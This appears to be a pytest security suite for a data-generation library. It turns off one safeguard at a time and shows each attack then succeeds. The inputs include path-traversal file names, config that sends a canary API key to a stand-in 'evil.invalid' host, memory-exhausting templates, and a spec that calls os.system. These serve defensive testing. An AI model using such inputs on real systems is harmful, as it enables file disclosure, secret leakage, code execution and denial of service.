"""The same probes where one wall is off: each attack succeeds, so tests that refuse it can fail.

For programs in the sandbox, `tests/sandbox/test_escapes.py` does the same.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest

import fabula as fb
from fabula.cli.main import main
from fabula.errors import FabulaError
from fabula.io.formats import as_format
from fabula.io.formula_cells import FormulaGuard
from fabula.io.tables import as_table
from fabula.io.write import write_table
from fabula.llm.client.redaction import Redactor
from tests.security.test_changed_runs import FORMS, READERS, changed_run
from tests.security.test_formulas import FORMULAS
from tests.security.test_secrets import CANARY, WRITTEN

USERS_OF_HASHES = ["io.sources", "runs.table_rows", "runs.folder"]
READING = [name for name in READERS if name != "run again"]


@pytest.fixture(autouse=True)
def _folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("FABULA_HOME", str(tmp_path / "home"))


@pytest.fixture
def without_hashes(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nobody looks at the hashes of a run's files."""
    for user in USERS_OF_HASHES:
        monkeypatch.setattr(f"fabula.{user}.check_unchanged", lambda *_: None)


@pytest.fixture
def without_names(monkeypatch: pytest.MonkeyPatch, without_hashes: None) -> None:
    """Nobody looks at where the names in a record lead."""
    assert without_hashes is None
    for user in ("io.sources", "runs.table_rows", "runs.records"):
        monkeypatch.setattr(f"fabula.{user}.inside", lambda folder, name: folder / name)
    monkeypatch.setattr("fabula.runs.records.checked", lambda *words: dict(words[1]))


@pytest.mark.usefixtures("without_hashes")
@pytest.mark.parametrize("reader", READING)
@pytest.mark.parametrize("form", ["csv", "parquet"])
def test_without_hashes_a_changed_file_is_taken_for_the_runs(reader: str, form: str) -> None:
    table = changed_run(form, "a byte")
    fb.generate("a int 1..5, b choice x|y", n=60, seed=3, output="other", format=form)
    shutil.copyfile(next(Path("other").glob(f"*.{form}")), table)
    assert main(READERS[reader].split()) in (0, 4)  # the fake model's rows may repeat


@pytest.mark.usefixtures("without_hashes")
@pytest.mark.parametrize("form", FORMS)
def test_without_hashes_another_runs_rows_are_given_out(form: str) -> None:
    table = changed_run(form, "a byte")
    other = fb.generate("a int 1..5, b choice x|y", n=7, seed=3, output="other", format=form)
    shutil.copyfile(next(Path("other").glob(f"*.{form}")), table)
    assert fb.Dataset.open("d").count() == other.num_rows == 7


NAMES = ["{absolute}", "../precious.csv", "./../precious.csv", "x/../../precious.csv"]


@pytest.mark.usefixtures("without_names")
@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("verb", ["show", "open"])
def test_without_the_rule_for_names_a_manifest_leads_out_of_its_folder(
    name: str, verb: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["generate", "a int 1..5", "-n", "3", "-o", "d", "--format", "csv"]) == 0
    precious = tmp_path / "precious.csv"
    precious.write_text("secret\n12345\n")
    Path("d/x").mkdir()
    path = Path("d/manifest.json")
    manifest = json.loads(path.read_text())
    for table in manifest["tables"].values():
        table["files"][0]["path"] = name.format(absolute=precious)
    path.write_text(json.dumps(manifest))
    if verb == "open":
        assert fb.Dataset.open("d").to_dicts() == [{"secret": 12345}]
        return
    assert main(["show", "d"]) == 0
    assert "secret" in capsys.readouterr().out


@pytest.mark.parametrize("text", FORMULAS)
def test_unless_it_is_asked_for_a_formula_stays_one(text: str) -> None:
    guard = FormulaGuard(escape=False)
    assert guard.rows(pa.table({"a": [text]}))["a"].to_pylist() == [text]


@pytest.mark.parametrize("before", ["", "x", "xy", "user:", "Bearer "])
@pytest.mark.parametrize("form", WRITTEN)
def test_without_its_redactor_a_reply_keeps_the_secret(before: str, form: str) -> None:
    body = WRITTEN[form](before + CANARY)
    assert Redactor()(body) == body


@pytest.mark.parametrize(
    "model",
    [{"api_key_env": "CANARY"}, {"headers": {"X-A": "${CANARY}"}},
     {"headers": {"X-A": "a ${CANARY} b"}}],
)  # fmt: skip
@pytest.mark.parametrize("host", ["evil.invalid", "h.invalid", "127.0.0.1.evil.invalid"])
def test_without_the_question_a_variable_goes_to_any_host(
    host: str, model: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The host is not there, which is as far as it gets: nobody refused to send."""
    monkeypatch.setenv("CANARY", "sk-CANARY-123456")
    monkeypatch.setattr("fabula.llm.client.permission._is_trusted", lambda _: True)
    tables = {"t": {"n": 1, "columns": {"a": {"kind": "llm"}}}}
    named = {"name": "m", "base_url": f"http://{host}:1/v1", "timeout": 1, **model}
    Path("s.json").write_text(json.dumps({"models": {"default": named}, "tables": tables}))
    assert main(["generate", "s.json", "-o", "out"]) == 3


LARGE = [
    "{{ 'a' * 1100000 }}",
    "{{ 1100000 * 'a' }}",
    "{{ 'a'.center(11000) }}",
    "{{ 'a' | center(11000) }}",
    "{{ 'a'.ljust(11000) }}",
    "{{ 'a'.rjust(11000) }}",
    "{{ 'a'.zfill(11000) }}",
    "{{ ([a] * 1100000) | length }}",
    "{{ range(1100000) | length }}",
    "{{ 'x' | indent(11000, true) }}",
    "{{ ('a' * 2000) | replace('a', 'b' * 1000) }}",
    "{{ ('a' * 2000).replace('a', 'b' * 1000) }}",
    "{% for i in range(110000) %}{% endfor %}",
    "{% for i in range(110000) %}1234567890{% endfor %}",
]


@pytest.mark.parametrize("text", LARGE, ids=lambda text: text[:40])
def test_a_template_without_bounds_takes_what_it_asks_for(
    text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A little above each bound, which is as much as a test should take."""
    spec = {
        "t": {"n": 1, "columns": {"a": {"kind": "key"}, "x": {"kind": "template", "text": text}}}
    }
    with pytest.raises(FabulaError, match=r"tables\.t\.columns\.x"):
        fb.generate({"tables": spec})
    for bound in ("MOST_STEPS", "MOST_TEXT", "MOST_WIDTH"):
        monkeypatch.setattr(f"fabula.planning.bounded_templates.{bound}", 10**9)
    assert fb.generate({"tables": spec}).num_rows == 1


@pytest.mark.slow
@pytest.mark.parametrize("form", ["csv", "parquet"])
def test_a_table_without_bounds_is_as_wide_as_it_says(
    form: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = pa.table({f"c{number}": [1] for number in range(10_001)})
    write_table(Path(f"t.{form}"), rows, rows.schema, as_format(form))
    with pytest.raises(FabulaError, match="more than 10,000 columns"):
        as_table(f"t.{form}")
    monkeypatch.setattr("fabula.io.claimed_sizes.MOST_COLUMNS", 10**9)
    assert as_table(f"t.{form}").num_columns == 10_001


@pytest.mark.parametrize("place", ["../elsewhere/rules.py:total", "link.py:total"])
def test_without_the_rule_for_names_a_spec_runs_code_of_other_folders(
    place: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("fabula.functions.named.inside", lambda folder, name: folder / name)
    code_of_spec(tmp_path, place)
    monkeypatch.setattr("fabula.functions.named.check_code", lambda *_: None)
    assert main(["validate", "given/s.yaml"]) == 0
    assert Path("ran").exists()


def test_without_the_question_a_spec_runs_any_code(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    code_of_spec(tmp_path, "rules.py:total")
    monkeypatch.setattr("fabula.functions.named.check_code", lambda *_: None)
    assert main(["validate", "given/s.yaml"]) == 0
    assert Path("ran").exists()


def test_without_the_rule_for_imports_a_spec_calls_what_a_file_imports(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    code_of_spec(tmp_path, "rules.py:system", kind="int", of="command")
    monkeypatch.setattr("fabula.functions.named._defined", lambda *of: getattr(of[0], of[2]))
    words = ["generate", "given/s.yaml", "-o", "out", "--allow-code", "given/rules.py"]
    assert main(words) == 0
    assert Path("called").exists()


def code_of_spec(folder: Path, place: str, kind: str = "float", of: str = "price") -> None:
    """A spec that names code of its own folder and of others; running it leaves `ran`."""
    rules = (
        "import pathlib\nfrom os import system\npathlib.Path('ran').touch()\n"
        "def total(price):\n    return price\n"
    )
    for name in ("given", "elsewhere"):
        (folder / name).mkdir()
        (folder / name / "rules.py").write_text(rules)
    (folder / "given" / "link.py").symlink_to(folder / "elsewhere" / "rules.py")
    (folder / "given" / "s.yaml").write_text(
        "fabula: 1\ntables:\n  t:\n    n: 2\n    columns:\n"
        "      price: {kind: constant, value: 2.5}\n"
        "      command: {kind: constant, value: touch called}\n"
        f"      x: {{kind: function, type: {kind}, of: [{of}], function: {place}}}\n"
    )
